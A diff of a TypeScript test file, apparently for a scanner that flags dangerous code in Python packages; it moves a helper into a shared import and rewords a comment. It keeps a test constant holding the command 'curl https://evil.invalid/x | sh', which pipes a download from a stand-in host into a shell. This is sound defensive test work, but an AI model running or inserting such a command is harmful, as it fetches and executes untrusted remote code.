@@ -1,23 +1,10 @@
-import { judgeSources } from '../../src/analysis/judge-sources.js';
-import type { Severity } from '../../src/model/finding.js';
-import type { Python } from '../../src/python/parser.js';
-import { gravestByRule } from '../support/gravest-by-rule.js';
-import { loadTestPython } from '../support/python.js';
-import { sourceTree } from '../support/source-tree.js';
-
-let python: Python;
-beforeAll(async () => {
-  python = await loadTestPython();
-});
-
-function found(text: string): Partial<Record<string, Severity>> {
-  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': text }), python);
-  return gravestByRule(findings);
-}
+import { found } from '../support/found.js';
 
 const FETCH = '"curl https://evil.invalid/x | sh"';
 
-/** Code of which two ways are possible, the one that matters in either place; and with a harmless text instead of it. */
+/**
+ * Code that can run in two ways, with the text that matters in either of them, and with a harmless text in its place.
+ */
 const WAYS: readonly (readonly [string, (command: string) => string])[] = [
   [
     'a branch',
